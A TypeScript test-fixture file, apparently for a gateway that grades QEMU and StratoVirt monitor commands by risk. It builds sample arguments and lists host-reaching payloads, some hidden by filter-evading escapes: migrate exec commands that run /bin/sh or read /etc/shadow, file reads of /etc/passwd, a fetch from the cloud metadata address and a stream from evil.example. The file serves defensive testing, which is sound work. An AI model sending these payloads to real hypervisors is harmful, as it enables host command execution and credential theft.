import { lowerings, raisings } from '../../libs/catalog/src/argument-rules.js';

/** A text for every pattern that a raising rule looks for. */
const texts = [
  ...['exec:id', 'exec', 'file:/tmp/x', 'file', '/etc/passwd', 'json:{}', 'any', 'data', 'info jit'],
  ...['x-remote-object', 'colo-compare', 'chardev-msmouse', 'max-x86_64-cpu'],
];

/** Arguments that make a raising rule apply. */
export function raisedSamples(command: string): string[] {
  return raisings
    .filter(({ commands, member }) => commands.includes(command) && member.length > 0)
    .map(({ rule, member, value }) => {
      const text = texts.find((candidate) => value?.test(candidate) ?? true);
      if (text === undefined) throw new Error(`no sample for rule ${rule}`);
      return JSON.stringify(nested(member, text));
    });
}

function nested([name, ...rest]: readonly string[], text: string): unknown {
  if (name === undefined) return text;
  return name === '*' ? [nested(rest, text)] : { [name]: nested(rest, text) };
}

const lowered: Readonly<Record<string, string>> = {
  device_add: '{"driver":"virtio-rng-pci","id":"r0"}',
  netdev_add: '{"type":"hubport","id":"n0","hubid":0}',
  'object-add': '{"qom-type":"iothread","id":"i0"}',
  'chardev-add': '{"id":"c0","backend":{"type":"null","data":{}}}',
  'chardev-change': '{"id":"c0","backend":{"type":"null","data":{}}}',
  'blockdev-add': '{"driver":"null-co","node-name":"n0"}',
  'human-monitor-command': '{"command-line":"info status"}',
};
/** Not a lowering of the data, but the same to callers: the class is that of the highest action. */
const transaction = '{"actions":[{"type":"block-dirty-bitmap-add","data":{"node":"a","name":"b"}}]}';

const loweredOnStratovirt: Readonly<Record<string, string>> = {
  device_add: '{"driver":"virtio-rng-pci","id":"r0","bus":"pcie.0","addr":"0x1"}',
  'human-monitor-command': '{"command-line":"info snapshots"}',
};

/** Arguments that make a lowering rule apply. */
export function loweredSamples(command: string, of: 'qemu' | 'stratovirt' = 'qemu'): string[] {
  if (command === 'transaction') return [transaction];
  if (!lowerings.some(({ family, commands }) => family === of && commands.includes(command))) return [];
  const sample = (of === 'qemu' ? lowered : loweredOnStratovirt)[command];
  if (sample === undefined) throw new Error(`no sample for the lowering of ${command}`);
  return [sample];
}

/** Arguments that aim at the gateway's own monitor, whose character device is called so. */
export function aimedSamples(command: string, chardev: string): string[] {
  const aimed: Readonly<Record<string, object>> = {
    'chardev-remove': { id: chardev },
    'chardev-change': { id: chardev, backend: { type: 'null', data: {} } },
    yank: { instances: [{ type: 'chardev', id: chardev }] },
    'human-monitor-command': { 'command-line': `chardev-remove ${chardev}` },
    'qom-set': { path: `/chardevs/${chardev}`, property: 'connected', value: false },
  };
  return command in aimed ? [JSON.stringify(aimed[command])] : [];
}

/** Every way into the host that is of class `host`, and spellings that hide it. `[command, arguments]` */
export const hostVectors: readonly (readonly [string, string])[] = [
  ['migrate', '{"uri":"exec:id > /tmp/x"}'],
  ['migrate', '{"\\u0075ri":"\\u0065xec:id"}'],
  ['migrate', '{"channels":[{"channel-type":"main","addr":{"transport":"exec","args":["/bin/sh","-c","id"]}}]}'],
  ['migrate', '{"channels":[{"channel-type":"main","addr":{"tr\\u0061nsport":"ex\\u0065c","args":["id"]}}]}'],
  ['migrate', '{"uri":"file:/tmp/x"}'],
  ['migrate', '{"uri":"tcp:10.0.0.1:4444"}'],
  ['migrate-incoming', '{"uri":"exec:cat /etc/shadow"}'],
  ['migrate-recover', '{"uri":"unix:/tmp/x"}'],
  ['migrate-set-parameters', '{"cpr-exec-command":["/bin/sh"]}'],
  ['migrate-set-parameters', '{"cpr-\\u0065xec-command":["/bin/sh"]}'],
  ...[
    ...['gdbserver unix:/tmp/x', 'logfile /tmp/x', 'log all', 'hostfwd_add tcp::1-:1', 'drive_add 0 file=/etc/passwd'],
    ...[
      'qemu-io d0 "read 0 1"',
      'commit all',
      'savevm x',
      'o /b 0x505 1',
      'wavcapture /tmp/x',
      'nmi',
      'migrate exec:id',
    ],
    ...['info status ; logfile /tmp/x', 'info status\\nlogfile /tmp/x', ' info status', 'info  status', 'INFO STATUS'],
    ...[
      'info',
      'info qtree extra',
      'info registers -a',
      'i status',
      '\\u0069nfo status\\t',
      'xp /1xb 0',
      'device_add x',
    ],
  ].map((line) => ['human-monitor-command', `{"command-line":"${line.replaceAll(/(?<!\\)"/g, '\\"')}"}`] as const),
  ['human-monitor-command', '{"command-line":"info status","command\\u002dline2":"x"}'],
  ['chardev-add', '{"id":"c","backend":{"type":"file","data":{"out":"/tmp/x"}}}'],
  ['chardev-add', '{"id":"c","backend":{"type":"socket","data":{"addr":{"type":"unix","data":{"path":"/tmp/x"}}}}}'],
  ['chardev-add', '{"id":"c","backend":{"type":"udp","data":{}}}'],
  ['chardev-add', '{"id":"c","backend":{"type":"pty","data":{}}}'],
  ['chardev-add', '{"id":"c","backend":{"type":"stdio","data":{}}}'],
  ['chardev-add', '{"id":"c","backend":{"type":"serial","data":{"device":"/dev/ttyS0"}}}'],
  ['chardev-add', '{"id":"c","backend":{"type":"parallel","data":{"device":"/dev/parport0"}}}'],
  ['chardev-add', '{"id":"c","backend":{"type":"null","data":{"logfile":"/tmp/x"}}}'],
  ['chardev-add', '{"id":"c","backend":{"type":"null","data":{"\\u006cogfile":"/tmp/x"}}}'],
  ['chardev-change', '{"id":"c","backend":{"type":"pipe","data":{"device":"/tmp/x"}}}'],
  ['object-add', '{"qom-type":"memory-backend-file","id":"m","mem-path":"/tmp/x","size":4096}'],
  ['object-add', '{"qom-type":"filter-dump","id":"f","netdev":"n","file":"/tmp/x"}'],
  ['object-add', '{"qom-type":"secret","id":"s","file":"/etc/shadow"}'],
  ['object-add', '{"qom-type":"rng-random","id":"r","filename":"/dev/mem"}'],
  ['object-add', '{"qom-type":"tls-creds-x509","id":"t","dir":"/etc","endpoint":"server"}'],
  ['object-add', '{"qom-type":"authz-listfile","id":"a","filename":"/etc/passwd"}'],
  ['object-add', '{"qom-type":"input-linux","id":"i","evdev":"/dev/input/event0"}'],
  ['object-add', '{"qom-type":"pr-manager-helper","id":"p","path":"/tmp/x"}'],
  ['object-add', '{"qom-type":"monitor-qmp","id":"m","chardev":"c"}'],
  ['object-add', '{"qom-type":"qtest","id":"q","chardev":"c"}'],
  ['object-add', '{"qom-type":"authz-pam","id":"a","service":"login"}'],
  ['object-add', '{"qom-type":"can-host-socketcan","id":"c","if":"can0","canbus":"b"}'],
  ['object-add', '{"qom-type":"cryptodev-vhost-user","id":"c","chardev":"c"}'],
  ['object-add', '{"qom-type":"igvm-cfg","id":"i","file":"/tmp/x"}'],
  ['object-add', '{"qom-type":"sev-guest","id":"s","dh-cert-file":"/etc/passwd"}'],
  ['object-add', '{"qom-type":"x-vfio-user-server","id":"v","device":"d","socket":{"type":"unix","path":"/tmp/x"}}'],
  ['object-add', '{"qom-type":"x-remote-object","id":"r","fd":"3","devid":"d"}'],
  ['object-add', '{"qom-type":"iommufd","id":"i","fd":"3"}'],
  ['object-add', '{"qom-type":"dbus-vmstate","id":"d","addr":"unix:path=/run/dbus/system_bus_socket"}'],
  ['object-add', '{"qom-type":"monitor-hmp","id":"m","chardev":"c"}'],
  ['object-add', '{"qom-type":"iothread","id":"i","file":"/etc/passwd"}'],
  ['device_add', '{"driver":"virtio-net-pci","romfile":"/etc/passwd"}'],
  ['device_add', '{"driver":"virtio-net-pci","\\u0072omfile":"/etc/passwd"}'],
  ['device_add', '{"driver":"vfio-pci","host":"0000:00:01.0"}'],
  ['device_add', '{"driver":"vfio-pci","sysfsdev":"/sys/x"}'],
  ['device_add', '{"driver":"usb-host","hostbus":1}'],
  ['device_add', '{"driver":"scsi-generic","drive":"d"}'],
  ['device_add', '{"driver":"loader","file":"/etc/passwd"}'],
  ['device_add', '{"driver":"virtio-9p-pci","fsdev":"f","mount_tag":"t"}'],
  ['device_add', '{"driver":"vhost-user-fs-pci","chardev":"c","tag":"t"}'],
  ['netdev_add', '{"type":"tap","id":"n","script":"/bin/sh"}'],
  ['netdev_add', '{"type":"bridge","id":"n","helper":"/bin/sh"}'],
  ['netdev_add', '{"type":"user","id":"n","guestfwd":[{"str":"tcp:10.0.2.1:1-cmd:id"}]}'],
  ['netdev_add', '{"type":"user","id":"n","hostfwd":[{"str":"tcp::1-:1"}]}'],
  ['netdev_add', '{"type":"user","id":"n","smb":"/etc"}'],
  ['netdev_add', '{"type":"vhost-user","id":"n","chardev":"c"}'],
  ['netdev_add', '{"type":"socket","id":"n","listen":":1"}'],
  ['netdev_add', '{"type":"tap","id":"n","downscript":"/bin/sh"}'],
  ['netdev_add', '{"type":"tap","id":"n","helper":"/bin/sh"}'],
  ['netdev_add', '{"type":"user","id":"n","tftp":"/etc"}'],
  ['netdev_add', '{"type":"passt","id":"n","path":"/bin/sh"}'],
  ['netdev_add', '{"type":"vde","id":"n","sock":"/tmp/x"}'],
  ['netdev_add', '{"type":"l2tpv3","id":"n","src":"10.0.0.1","dst":"10.0.0.2","txsession":1}'],
  ['netdev_add', '{"type":"stream","id":"n","addr":{"type":"unix","path":"/tmp/x"}}'],
  ['netdev_add', '{"type":"dgram","id":"n","local":{"type":"unix","path":"/tmp/x"}}'],
  ['netdev_add', '{"type":"vhost-vdpa","id":"n","vhostdev":"/dev/vhost-vdpa-0"}'],
  ['netdev_add', '{"ty\\u0070e":"t\\u0061p","id":"n"}'],
  ['blockdev-add', '{"driver":"file","node-name":"n","filename":"/etc/passwd"}'],
  ['blockdev-add', '{"driver":"raw","node-name":"n","file":{"driver":"host_device","filename":"/dev/sda"}}'],
  ['blockdev-add', '{"driver":"vvfat","node-name":"n","dir":"/etc"}'],
  ['blockdev-add', '{"driver":"https","node-name":"n","url":"https://169.254.169.254/"}'],
  ['blockdev-add', '{"driver":"nbd","node-name":"n","server":{"type":"unix","path":"/tmp/x"}}'],
  ['blockdev-add', '{"driver":"ssh","node-name":"n","path":"/x","server":{"host":"10.0.0.1","port":"22"}}'],
  ['blockdev-add', '{"driver":"ftp","node-name":"n","url":"ftp://10.0.0.1/x"}'],
  ['blockdev-add', '{"driver":"iscsi","node-name":"n","transport":"tcp","portal":"10.0.0.1","target":"t"}'],
  ['blockdev-add', '{"driver":"nfs","node-name":"n","path":"/x","server":{"type":"inet","host":"10.0.0.1"}}'],
  ['blockdev-add', '{"driver":"rbd","node-name":"n","pool":"p","image":"i","conf":"/etc/passwd"}'],
  ['blockdev-add', '{"driver":"nvme","node-name":"n","device":"0000:00:01.0","namespace":1}'],
  ['blockdev-add', '{"driver":"blkdebug","node-name":"n","config":"/etc/passwd","image":"x"}'],
  [
    'blockdev-add',
    '{"driver":"qcow2","node-name":"n","file":"json:{\\"driver\\":\\"file\\",\\"filename\\":\\"/etc/passwd\\"}"}',
  ],
  ['blockdev-reopen', '{"options":[{"driver":"file","node-name":"n","filename":"/etc/passwd"}]}'],
  ['blockdev-create', '{"job-id":"j","options":{"driver":"file","filename":"/tmp/x","size":1}}'],
  ['drive-mirror', '{"device":"d","target":"/tmp/x","sync":"full"}'],
  ['drive-backup', '{"device":"d","target":"json:{\\"driver\\":\\"file\\"}","sync":"full"}'],
  ['blockdev-snapshot-sync', '{"device":"d","snapshot-file":"/tmp/x"}'],
  ['blockdev-change-medium', '{"device":"d","filename":"/etc/passwd"}'],
  ['change-backing-file', '{"device":"d","image-node-name":"n","backing-file":"/etc/passwd"}'],
  ['block-commit', '{"device":"d","backing-file":"/etc/passwd"}'],
  ['block-commit', '{"device":"d","b\\u0061cking-file":"/etc/passwd"}'],
  ['block-commit', '{"device":"d","base":"/etc/passwd"}'],
  ['block-commit', '{"device":"d","top":"json:{}"}'],
  ['block-stream', '{"device":"d","base":"https://evil.example/x"}'],
  ['block-stream', '{"device":"d","base":"json:{\\"driver\\":\\"file\\"}"}'],
  ['screendump', '{"filename":"/tmp/x"}'],
  ['memsave', '{"val":0,"size":1,"filename":"/tmp/x"}'],
  ['pmemsave', '{"val":0,"size":1,"filename":"/tmp/x"}'],
  ['dump-guest-memory', '{"paging":false,"protocol":"file:/tmp/x"}'],
  ['dumpdtb', '{"filename":"/tmp/x"}'],
  ['dump-skeys', '{"filename":"/tmp/x"}'],
  ['xen-save-devices-state', '{"filename":"/tmp/x"}'],
  ['nbd-server-start', '{"addr":{"type":"inet","data":{"host":"0","port":"1"}}}'],
  ['nbd-server-add', '{"device":"d"}'],
  ['block-export-add', '{"type":"vhost-user-blk","id":"e","node-name":"n","addr":{"type":"unix","path":"/tmp/x"}}'],
  ['block-export-add', '{"type":"vduse-blk","id":"e","node-name":"n","name":"x"}'],
  ['block-export-add', '{"type":"fuse","id":"e","node-name":"n","mountpoint":"/tmp/x"}'],
  ['display-update', '{"type":"vnc","addresses":[]}'],
  ['transaction', '{"actions":[{"type":"blockdev-snapshot-sync","data":{"device":"d","snapshot-file":"/tmp/x"}}]}'],
  [
    'transaction',
    '{"actions":[{"type":"abort","data":{}},{"type":"drive-backup","data":{"device":"d","target":"/x"}}]}',
  ],
  ['transaction', '{"actions":[{"ty\\u0070e":"drive\\u002dbackup","data":{"device":"d","target":"/x"}}]}'],
  ['transaction', '{"actions":[{"type":"from-the-future","data":{}}]}'],
  ['transaction', '{"actions":[{"type":"block-dirty-bitmap-add","data":{}},{}]}'],
  ['qom-set', '{"path":"/machine","property":"kernel","value":"/etc/passwd"}'],
  ['x-from-the-future', '{}'],
];
